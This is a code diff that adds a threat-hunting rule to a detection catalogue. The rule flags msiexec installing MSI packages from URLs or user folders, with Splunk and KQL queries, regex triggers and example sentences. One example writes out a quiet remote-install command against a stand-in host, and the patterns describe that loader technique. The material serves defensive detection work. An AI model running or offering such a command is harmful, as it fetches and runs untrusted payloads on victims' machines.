@@ -439,5 +439,64 @@ export function executionHunts(): CatalogueHunt[] {
         ],
       },
     },
+    {
+      id: 'UC_MSIEXEC_REMOTE_PACKAGE',
+      title: 'Msiexec installing a package from a URL or a user-writable folder',
+      description: 'Finds msiexec.exe installing (/i, /package) or applying (/y, /z) a package named by an http(s) URL or taken ' +
+        'from Downloads, AppData, Temp or Public, usually quietly (/q), plus msiexec connecting to internet addresses. Loaders ' +
+        'and fake-installer campaigns use the signed Windows Installer to fetch and run an MSI that drops the real payload; ' +
+        'software deployment installs from file shares or management agents instead.',
+      phase: 'install',
+      techniques: ['T1218.007'],
+      telemetry: { splunk: ['Endpoint.Processes'], defender: ['DeviceProcessEvents', 'DeviceNetworkEvents'] },
+      trigger: {
+        techniques: ['T1218.007'],
+        phrases: [
+          /msiexec(?:\.exe)? (?:\S+ ){0,3}(?:hxxps?|https?):/i,
+          /msiexec(?:\.exe)? (?:\w+ ){0,3}to (?:download|fetch|install|run|execute|retrieve) (?:\w+ ){0,2}(?:remote|malicious|rogue)/i,
+          /(?:malicious|rogue|trojani[sz]ed|weaponi[sz]ed|remote) MSI (?:packages?|installers?|files?|payloads?)/i,
+        ],
+      },
+      spl: [
+        '| tstats `security_content_summariesonly` count min(_time) as firstTime max(_time) as lastTime',
+        '  from datamodel=Endpoint.Processes',
+        '  where (Processes.process_name="msiexec.exe" OR Processes.original_file_name="msiexec.exe")',
+        '    (Processes.process="*/i*" OR Processes.process="*-i *" OR Processes.process="*/package*" OR Processes.process="*/y*" OR Processes.process="*/z*")',
+        '    (Processes.process="*http:*" OR Processes.process="*https:*" OR Processes.process="*\\\\Downloads\\\\*" OR Processes.process="*\\\\AppData\\\\*" OR Processes.process="*\\\\Temp\\\\*" OR Processes.process="*\\\\Users\\\\Public\\\\*")',
+        '  by Processes.dest Processes.user Processes.parent_process_name Processes.process_name Processes.process',
+        '| `drop_dm_object_name(Processes)`',
+        '| `security_content_ctime(firstTime)`',
+        '| `security_content_ctime(lastTime)`',
+      ].join('\n'),
+      kql: [
+        'let lookback = 30d;',
+        'union',
+        '(DeviceProcessEvents',
+        '  | where Timestamp > ago(lookback)',
+        '  | where FileName =~ "msiexec.exe" or ProcessVersionInfoOriginalFileName =~ "msiexec.exe"',
+        '  | where ProcessCommandLine matches regex @"(?i)\\s[-/](i|package|y|z)\\b"',
+        '  | where ProcessCommandLine has_any ("http:", "https:", @"\\Downloads\\", @"\\AppData\\", @"\\Temp\\", @"\\Users\\Public\\")',
+        '  | extend Quiet = ProcessCommandLine matches regex @"(?i)\\s[-/]q(n|b|r|f)?\\b"',
+        '  | project Timestamp, DeviceName, Account = AccountName, Parent = InitiatingProcessFileName, CommandLine = ProcessCommandLine, Quiet, Remote = ""),',
+        '(DeviceNetworkEvents',
+        '  | where Timestamp > ago(lookback)',
+        '  | where InitiatingProcessFileName =~ "msiexec.exe" and RemoteIPType == "Public"',
+        '  | where InitiatingProcessCommandLine matches regex @"(?i)https?://"',
+        '  | project Timestamp, DeviceName, Account = InitiatingProcessAccountName, Parent = InitiatingProcessParentFileName, CommandLine = InitiatingProcessCommandLine, Quiet = bool(null), Remote = coalesce(RemoteUrl, RemoteIP))',
+        '| order by Timestamp desc',
+      ].join('\n'),
+      falsePositives: ['Users installing software they downloaded themselves, and some vendor bootstrappers that install an MSI from the vendor CDN; check the URL and the signer of the package.'],
+      examples: {
+        fire: [
+          'The clipboard command runs msiexec /q /i https://update-check.example/setup.msi on the victim.',
+          'A trojanized MSI installer delivered through search ads drops the loader.',
+        ],
+        quiet: [
+          'Deploy the agent with msiexec from the software distribution share.',
+          'The MSI format is used by most enterprise software.',
+          'Patch management tools call msiexec to install updates.',
+        ],
+      },
+    },
   ];
 }
